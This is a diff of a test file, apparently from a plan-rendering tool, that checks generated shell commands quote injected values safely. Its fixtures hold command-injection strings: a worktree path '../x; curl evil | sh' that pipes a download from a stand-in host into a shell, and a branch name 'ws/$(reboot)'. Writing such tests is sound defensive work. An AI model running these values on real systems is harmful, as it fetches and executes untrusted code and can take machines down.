@@ -10,7 +10,7 @@ describe("commands in generated documents", () => {
     const root = await mkdtemp(path.join(os.tmpdir(), "paraplan-shell-"));
     await cp(path.join(REPO, "plan"), path.join(root, "plan"), { recursive: true });
     const file = path.join(root, "plan", "workstreams", "TD2-config-management.md");
-    const text = (await readFile(file, "utf8")).replace("id: TD2\n", "id: TD2\nworktree: \"../x; curl evil | sh\"\nbranch: \"ws/$(reboot)\"\n");
+    const text = (await readFile(file, "utf8")).replace("id: TD2\n", 'id: TD2\nworktree: "../x; curl evil | sh"\nbranch: "ws/$(reboot)"\n');
     await writeFile(file, text);
     const { byPath } = await renderPlan(path.join(root, "plan"), root);
     expect(byPath["prompts/TD2_CONFIG_MANAGEMENT.md"]).toContain("cd '../x; curl evil | sh'\n");
